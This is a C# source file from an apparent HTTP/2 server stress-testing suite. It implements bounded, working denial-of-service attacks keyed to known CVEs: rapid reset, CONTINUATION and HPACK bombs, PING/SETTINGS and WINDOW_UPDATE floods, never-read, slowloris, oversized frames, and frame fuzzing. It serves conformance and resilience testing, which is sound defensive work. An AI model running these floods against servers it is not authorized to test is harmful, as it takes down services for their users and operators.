namespace Conformance.Stress;

/// <summary>
/// The attack classes (RFC 9113 §10.5, the CVEs below), each a bounded loop over raw frames
/// (RFC 9113 section numbers in the comments). Every loop stops when the
/// context's token fires, and also at a count bound, whichever comes first.
/// An attack that the server cuts off reconnects and goes on, as an
/// attacker would, up to a bounded number of connections.
/// </summary>
public static class Attacks
{
    /// <summary>All attacks, in the order they run.</summary>
    public static readonly Attack[] All =
    [
        new("rapid-reset", "CVE-2023-44487", "HEADERS then RST_STREAM(CANCEL), 100 per write, as fast as possible", RapidReset),
        new("reset-flood", "CVE-2019-9514", "malformed requests (upper-case field name) that each earn a RST_STREAM; never reads", ResetFlood),
        new("continuation-flood", "CVE-2024-27316 CVE-2024-28182", "HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs of new literal fields", c => ContinuationFlood(c, withPayload: true)),
        new("continuation-empty", "CVE-2023-45288 CVE-2019-9518", "HEADERS without END_HEADERS, then empty CONTINUATIONs", c => ContinuationFlood(c, withPayload: false)),
        new("hpack-bomb", "CVE-2016-6581", "one 4000-octet table entry, then 16000 one-octet references to it per block", c => HpackBomb(c, valueLength: 4000)),
        new("header-count-bomb", "CVE-2016-6581 (count)", "one tiny table entry, then 16000 one-octet references per block", c => HpackBomb(c, valueLength: 1)),
        new("zero-length-headers", "CVE-2019-9516", "5000 fields with an empty name and value per block, each added to the table", ZeroLengthHeaders),
        new("ping-flood", "CVE-2019-9512", "PINGs (each owes a PING ACK) from 4 connections that never read", c => ControlFlood(c, ping: true)),
        new("settings-flood", "CVE-2019-9515", "SETTINGS (each owes an ACK) from 4 connections that never read", c => ControlFlood(c, ping: false)),
        new("settings-many-entries", "CVE-2020-11080", "SETTINGS frames of 2730 entries each", SettingsManyEntries),
        new("empty-frame-flood", "CVE-2019-9518 CVE-2019-9513", "empty DATA, empty unknown-type frames and PRIORITY churn on an open stream", EmptyFrames),
        new("window-update-flood", "CVE-2019-9518 (WINDOW_UPDATE)", "WINDOW_UPDATE increment 1 on the connection and a stream, as fast as possible", WindowUpdateFlood),
        new("data-dribble", "CVE-2019-9511", "window of 1 octet, 100 large responses per connection, 1-octet WINDOW_UPDATEs", DataDribble),
        new("never-read", "CVE-2019-9517", "1 GiB windows, 100 large responses per connection, never reads", c => NeverRead(c, 1u << 30)),
        new("window-max", "CVE-2019-9517, RFC 9113 §6.9.1", "windows at the 2^31-1 maximum, 100 large responses per connection, never reads", c => NeverRead(c, 0x7fffffff)),
        new("oversized-frame", "RFC 9113 §4.2", "frame headers announcing 16 MiB payloads, then the payload", OversizedFrame),
        new("slowloris", "slowloris", "300 idle TCP connections + 200 that drip a HEADERS frame one octet at a time", Slowloris),
        new("streams-1000", "RFC 9113 §5.1.2", "1000 open streams (POST without END_STREAM) per connection, connection after connection", Streams1000),
        new("fuzz", "seeded mutations", "valid frame sequences with random bit flips, truncations and bad lengths", Fuzz),
    ];

    private const uint Cancel = 0x8;

    /// <summary>Runs <paramref name="workers"/> copies of a loop side by side.</summary>
    private static Task Parallel(int workers, Func<int, Task> loop) =>
        Task.WhenAll(Enumerable.Range(0, workers).Select(i => Task.Run(() => loop(i))));

    /// <summary>Reopens a connection whenever the server closes or refuses the current one,
    /// until the time is up or <paramref name="maxConnections"/> were used.</summary>
    private static async Task Reconnecting(AttackContext ctx, int maxConnections, Func<RawConnection, Task> onConnection, bool read = true, params (ushort, uint)[] settings)
    {
        for (var i = 0; i < maxConnections && !ctx.Done; i++)
        {
            var c = await ctx.OpenAsync(read, settings);
            if (c is null)
            {
                await Delay(ctx, 50);
                continue;
            }
            await using (c) await onConnection(c);
        }
    }

    private static async Task Delay(AttackContext ctx, int ms)
    {
        try
        {
            await Task.Delay(ms, ctx.Token);
        }
        catch (OperationCanceledException) { }
    }

    private static bool Going(AttackContext ctx, RawConnection c) => !ctx.Done && !c.Closed && c.GoAwayLastStream is null;

    // CVE-2023-44487: each stream is opened and cancelled at once (§6.4 allows it), so a
    // concurrency limit never bites; only a budget of resets stops it.
    private static Task RapidReset(AttackContext ctx) => Reconnecting(ctx, 5000, async c =>
    {
        var block = RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority);
        var batch = new FrameBatch();
        for (uint id = 1; Going(ctx, c) && id < 0x7fff0000;)
        {
            batch.Clear();
            for (var i = 0; i < 100; i++, id += 2) batch.Headers(id, block, endStream: true).RstStream(id, Cancel);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    });

    // CVE-2019-9514: a request the server must reset (§8.2.1: upper-case field names make it
    // malformed, a stream error of type PROTOCOL_ERROR, §8.1.1); the attacker never reads, so
    // RST_STREAMs pile up in the server unless it bounds its outbound queue.
    private static Task ResetFlood(AttackContext ctx) => Parallel(4, _ => Reconnecting(ctx, 1000, async c =>
    {
        var fields = new List<byte>(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority));
        RawHpack.Literal(fields, "X-Upper-Case", "1");
        var block = fields.ToArray();
        var batch = new FrameBatch();
        for (uint id = 1; !ctx.Done && !c.Closed && id < 0x7fff0000;)
        {
            batch.Clear();
            for (var i = 0; i < 100; i++, id += 2) batch.Headers(id, block, endStream: true);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.DrainAsync(TimeSpan.FromMilliseconds(300));
    }, read: false));

    // CVE-2024-27316/-28182, CVE-2023-45288: a header block that never ends (§6.10), with
    // 16 KiB of new literal fields per frame, or with empty frames (counted all the same).
    private static Task ContinuationFlood(AttackContext ctx, bool withPayload) => Parallel(2, _ => Reconnecting(ctx, 2000, async c =>
    {
        var payload = withPayload ? ContinuationFragment() : [];
        var batch = new FrameBatch().Headers(1, RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority), endStream: true, endHeaders: false);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        for (var sent = 0; Going(ctx, c) && sent < 1_000_000;)
        {
            batch.Clear();
            for (var i = 0; i < (withPayload ? 8 : 1000); i++, sent++) batch.Continuation(1, payload, endHeaders: false);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    }));

    // CVE-2016-6581: one big entry with incremental indexing (RFC 7541 §6.2.1), then one-octet
    // references to it (index 62, §2.3.3): 16 KiB of block decode to 16000 x (name+value+32)
    // octets. A decoder that checks the header list size (§6.5.2 MAX_HEADER_LIST_SIZE) while
    // decoding stops after a few references; one that checks after has already paid.
    // With valueLength 1 this is the header-count bomb: 16000 tiny fields.
    private static Task HpackBomb(AttackContext ctx, int valueLength) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
    {
        var (first, refsBlock) = BombBlocks(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority), valueLength);
        var batch = new FrameBatch().Headers(1, first, endStream: true);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        for (uint id = 3; Going(ctx, c) && id < 20001; id += 2)
        {
            batch.Clear().Headers(id, refsBlock, endStream: true);
            if (!await c.SendAsync(batch, ctx.Token)) break;
            if (id % 64 == 1) await Task.Yield();
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    }));

    /// <summary>The bomb's two blocks: the request, the table entry and references (first on a
    /// connection), then the request and only references (every later stream); 16000 octets each.</summary>
    internal static (byte[] First, byte[] Refs) BombBlocks(byte[] request, int valueLength)
    {
        var first = new List<byte>(request);
        RawHpack.Incremental(first, "x", System.Text.Encoding.ASCII.GetBytes(new string('b', valueLength)));
        var refs = new List<byte>(request);
        while (refs.Count < 16000) RawHpack.Indexed(refs, 62);
        var refsBlock = refs.ToArray();
        first.AddRange(refsBlock.AsSpan(request.Length, 16000 - first.Count).ToArray());
        return (first.ToArray(), refsBlock);
    }

    /// <summary>The request, then 5000 literal fields with incremental indexing, empty name, empty value.</summary>
    internal static byte[] ZeroLengthBlock(byte[] request)
    {
        var block = new List<byte>(request);
        for (var i = 0; i < 5000; i++) block.AddRange([0x40, 0x00, 0x00]);
        return block.ToArray();
    }

    /// <summary>About 16000 octets of new literal fields (x-flood-NNNNN: 100 octets), no indexing.</summary>
    internal static byte[] ContinuationFragment()
    {
        var fragment = new List<byte>();
        for (var i = 0; fragment.Count < 16000; i++)
            RawHpack.Literal(fragment, $"x-flood-{i:d5}", new string('v', 100));
        return fragment.ToArray();
    }

    // CVE-2019-9516: fields with an empty name and value, each with incremental indexing
    // (RFC 7541 §6.2.1, 32 octets of table each): a server that allocates per field and
    // keeps it leaks. An empty name is not a valid field name (RFC 9110 §5.1 token), so
    // the request is malformed (RFC 9113 §8.2.1).
    private static Task ZeroLengthHeaders(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
    {
        var bytes = ZeroLengthBlock(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority));
        var batch = new FrameBatch();
        for (uint id = 1; Going(ctx, c) && id < 20001; id += 2)
        {
            batch.Clear().Headers(id, bytes, endStream: true);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    }));

    // CVE-2019-9512 / CVE-2019-9515: every PING and SETTINGS owes a reply (§6.7, §6.5.3); a
    // client that never reads makes the replies queue up in the server.
    private static Task ControlFlood(AttackContext ctx, bool ping) => Parallel(4, _ => Reconnecting(ctx, 1000, async c =>
    {
        var batch = new FrameBatch();
        ulong n = 0;
        while (!ctx.Done && !c.Closed && n < 5_000_000)
        {
            batch.Clear();
            for (var i = 0; i < 1000; i++, n++)
                if (ping) batch.Ping(n);
                else batch.Settings((Wire.InitialWindowSize, 65535));
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.DrainAsync(TimeSpan.FromMilliseconds(300));
    }, read: false));

    /// <summary>2730 valid entries (16380 octets, one frame at the default SETTINGS_MAX_FRAME_SIZE),
    /// cycling through every known identifier and one unknown (§6.5.2: ignored).</summary>
    internal static (ushort Id, uint Value)[] ManySettings()
    {
        (ushort, uint)[] cycle =
        [
            (Wire.HeaderTableSize, 0), (Wire.HeaderTableSize, 4096), (Wire.EnablePush, 0),
            (Wire.MaxConcurrentStreams, 100), (Wire.InitialWindowSize, 65535), (Wire.MaxFrameSize, 16384),
            (0x7777, 1),
        ];
        return Enumerable.Range(0, 2730).Select(i => cycle[i % cycle.Length]).ToArray();
    }

    // CVE-2020-11080: SETTINGS frames with thousands of entries (§6.5 puts no bound on their
    // number; each may make the encoder resize its table). 2730 x 6 = 16380 octets.
    private static Task SettingsManyEntries(AttackContext ctx) => Reconnecting(ctx, 5000, async c =>
    {
        var entries = ManySettings();
        var batch = new FrameBatch();
        for (var sent = 0; Going(ctx, c) && sent < 100_000; sent += 4)
        {
            batch.Clear();
            for (var i = 0; i < 4; i++) batch.Settings(entries);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    });

    // CVE-2019-9518 (empty frames), CVE-2019-9513 (PRIORITY churn, "resource loop"):
    // frames that cost the server work and carry nothing (§6.1, §5.5 unknown types, §6.3).
    private static Task EmptyFrames(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
    {
        var batch = new FrameBatch().Headers(1, RawHpack.Request("POST", ctx.Paths.Upload, ctx.Authority), endStream: false);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        uint idle = 101;
        for (var sent = 0; Going(ctx, c) && sent < 5_000_000;)
        {
            batch.Clear();
            for (var i = 0; i < 300; i++, sent += 4)
            {
                batch.Data(1, ReadOnlyMemory<byte>.Empty, endStream: false);
                batch.Frame(0xfa, 0, 0, ReadOnlyMemory<byte>.Empty);
                batch.Frame(0xfb, 0, 1, ReadOnlyMemory<byte>.Empty);
                batch.Priority(idle, 1, 15);
                idle = idle > 0x7fff0000 ? 101 : idle + 2;
            }
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    }));

    // WINDOW_UPDATE floods (the 2019 family's flow-control churn, §6.9): increments of 1 on
    // the connection and on a stream; 2^31 of them would be needed to overflow a window.
    private static Task WindowUpdateFlood(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
    {
        var batch = new FrameBatch().Headers(1, RawHpack.Request("POST", ctx.Paths.Upload, ctx.Authority), endStream: false);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        for (var sent = 0; Going(ctx, c) && sent < 10_000_000;)
        {
            batch.Clear();
            for (var i = 0; i < 1000; i++, sent += 2) batch.WindowUpdate(0, 1).WindowUpdate(1, 1);
            if (!await c.SendAsync(batch, ctx.Token)) break;
        }
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
    }));

    // CVE-2019-9511: a window of 1 octet (§6.5.2 SETTINGS_INITIAL_WINDOW_SIZE), large responses
    // on 100 streams, then WINDOW_UPDATEs of 1 octet; the server must not buffer whole
    // responses while the window dribbles (about 64 KiB per stream at most).
    private static Task DataDribble(AttackContext ctx) => Parallel(4, _ => Reconnecting(ctx, 20, async c =>
    {
        var block = RawHpack.Request("GET", ctx.Paths.Large, ctx.Authority);
        var batch = new FrameBatch();
        for (uint id = 1; id < 200; id += 2) batch.Headers(id, block, endStream: true);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        while (Going(ctx, c))
        {
            batch.Clear().WindowUpdate(0, 100);
            for (uint id = 1; id < 200; id += 2) batch.WindowUpdate(id, 1);
            if (!await c.SendAsync(batch, ctx.Token)) break;
            await Delay(ctx, 20);
        }
    }, read: true, (Wire.InitialWindowSize, 1)));

    // CVE-2019-9517: open every window wide (§6.9), ask for 100 large responses per
    // connection, never read: the server's socket buffer fills and the handlers keep writing.
    // At 2^31-1 (the §6.9.1 maximum) window arithmetic must not overflow either.
    private static Task NeverRead(AttackContext ctx, uint window) => Parallel(4, _ => Reconnecting(ctx, 4, async c =>
    {
        var block = RawHpack.Request("GET", ctx.Paths.Large, ctx.Authority);
        var batch = new FrameBatch().WindowUpdate(0, window - 65535);
        for (uint id = 1; id < 200; id += 2) batch.Headers(id, block, endStream: true);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        await Delay(ctx, (int)ctx.Duration.TotalMilliseconds);
        await c.DrainAsync(TimeSpan.FromMilliseconds(200));
    }, read: false, (Wire.InitialWindowSize, window)));

    // RFC 9113 §4.2: a frame over SETTINGS_MAX_FRAME_SIZE is a FRAME_SIZE_ERROR, decided from the
    // 9-octet header before the payload is read; a server that buffers it first pays 16 MiB.
    private static Task OversizedFrame(AttackContext ctx) => Parallel(4, _ => Reconnecting(ctx, 2000, async c =>
    {
        var batch = new FrameBatch().Header(0xffffff, Wire.Headers, Wire.EndHeaders, 1);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        var chunk = new FrameBatch().Raw(new byte[64 * 1024]);
        for (var sent = 0; Going(ctx, c) && sent < 0xffffff; sent += chunk.Length)
            if (!await c.SendAsync(chunk, ctx.Token)) break;
        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(200));
    }));

    // Slowloris: connections that cost nothing to the attacker and hold a slot in the server:
    // idle ones (no preface, §3.4) and ones that send a HEADERS frame one octet at a time.
    private static async Task Slowloris(AttackContext ctx)
    {
        var conns = new List<RawConnection>();
        try
        {
            for (var i = 0; i < 300 && !ctx.Done; i++)
                if (await Connect(ctx, read: true) is { } c) conns.Add(c);
            var drippers = new List<RawConnection>();
            var start = new FrameBatch().Start();
            for (var i = 0; i < 200 && !ctx.Done; i++)
                if (await Connect(ctx, read: true) is { } c && await c.SendAsync(start, ctx.Token))
                {
                    conns.Add(c);
                    drippers.Add(c);
                }
            var block = RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority);
            var frame = new FrameBatch().Headers(1, block, endStream: true).Memory.ToArray();
            var one = new FrameBatch();
            for (var pos = 0; !ctx.Done && pos < frame.Length - 1; pos++)
            {
                one.Clear().Raw(frame.AsSpan(pos, 1));
                foreach (var c in drippers) await c.SendAsync(one, ctx.Token);
                await Delay(ctx, 250);
            }
            await Delay(ctx, (int)ctx.Duration.TotalMilliseconds);
            ctx.Tally.Add("connections held", conns.Count(c => !c.Closed));
        }
        finally
        {
            foreach (var c in conns) await c.DisposeAsync();
        }
    }

    private static async Task<RawConnection?> Connect(AttackContext ctx, bool read)
    {
        try
        {
            var c = await RawConnection.ConnectAsync(ctx.Endpoint, ctx.Tally, TimeSpan.FromSeconds(2));
            return read ? c.StartReading() : c;
        }
        catch (Exception e) when (e is System.Net.Sockets.SocketException or OperationCanceledException)
        {
            ctx.Tally.Add("note connect failed");
            return null;
        }
    }

    // §5.1.2: streams over SETTINGS_MAX_CONCURRENT_STREAMS are refused (PROTOCOL_ERROR or
    // REFUSED_STREAM); 1000 streams held open by a missing END_STREAM, again and again.
    private static Task Streams1000(AttackContext ctx) => Reconnecting(ctx, 2000, async c =>
    {
        var block = RawHpack.Request("POST", ctx.Paths.Upload, ctx.Authority);
        var batch = new FrameBatch();
        for (uint id = 1; id < 2000; id += 2) batch.Headers(id, block, endStream: false);
        if (!await c.SendAsync(batch, ctx.Token)) return;
        await Delay(ctx, 400);
    });

    // Seeded fuzz: a valid client conversation, then random damage: bit flips, random octets,
    // rewritten length/type/flags/stream fields, cuts. The seed is in the report.
    private static Task Fuzz(AttackContext ctx) => Parallel(4, worker => FuzzWorker(ctx, new Random(ctx.Seed * 31 + worker)));

    private static async Task FuzzWorker(AttackContext ctx, Random rng)
    {
        for (var n = 0; n < 2000 && !ctx.Done; n++)
        {
            var c = await ctx.OpenAsync(read: true);
            if (c is null) continue;
            await using (c)
            {
                var frames = ValidConversation(ctx, rng);
                var bytes = Mutate(frames, rng);
                await c.SendAsync(new FrameBatch().Raw(bytes), ctx.Token);
                await c.WaitClosedAsync(TimeSpan.FromMilliseconds(30));
            }
        }
    }

    private static byte[] ValidConversation(AttackContext ctx, Random rng)
    {
        var b = new FrameBatch();
        uint stream = 1;
        for (var i = 0; i < 20; i++)
        {
            switch (rng.Next(11))
            {
                case 0: b.Headers(stream, RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority), endStream: true); stream += 2; break;
                case 1:
                    b.Headers(stream, RawHpack.Request("POST", ctx.Paths.Upload, ctx.Authority), endStream: false)
                     .Data(stream, new byte[rng.Next(100)], endStream: true);
                    stream += 2;
                    break;
                case 2:
                    var req = RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority);
                    var cut = rng.Next(req.Length);
                    b.Headers(stream, req.AsMemory(0, cut), endStream: true, endHeaders: false).Continuation(stream, req.AsMemory(cut), endHeaders: true);
                    stream += 2;
                    break;
                case 3: b.Ping((ulong)rng.NextInt64()); break;
                case 4: b.Settings((Wire.InitialWindowSize, (uint)rng.Next(1 << 20)), (Wire.HeaderTableSize, (uint)rng.Next(8192))); break;
                case 5: b.WindowUpdate((uint)(rng.Next(2) == 0 ? 0 : stream), (uint)rng.Next(1, 1 << 16)); break;
                case 6: b.Priority(stream, (uint)rng.Next(10), (byte)rng.Next(256)); break;
                case 7: b.RstStream(stream > 2 ? stream - 2 : 1, (uint)rng.Next(14)); break;
                case 8: b.Frame((byte)rng.Next(10, 256), (byte)rng.Next(256), (uint)rng.Next(8), new byte[rng.Next(32)]); break;
                case 9: b.SettingsAck(); break;
                default: b.Data(stream > 2 ? stream - 2 : 1, new byte[rng.Next(64)], endStream: false); break;
            }
        }
        return b.Memory.ToArray();
    }

    private static byte[] Mutate(byte[] frames, Random rng)
    {
        var o = new List<byte>(frames);
        for (var k = rng.Next(1, 6); k > 0 && o.Count > 0; k--)
        {
            var at = rng.Next(o.Count);
            switch (rng.Next(6))
            {
                case 0: o[at] ^= (byte)(1 << rng.Next(8)); break;
                case 1: o[at] = (byte)rng.Next(256); break;
                case 2: o.Insert(at, (byte)rng.Next(256)); break;
                case 3: o.RemoveAt(at); break;
                case 4: o.RemoveRange(at, o.Count - at); break;
                default: o[at] = 0xff; break;
            }
        }
        return [.. o]; // the preface and SETTINGS went out intact (AttackContext.OpenAsync)
    }
}
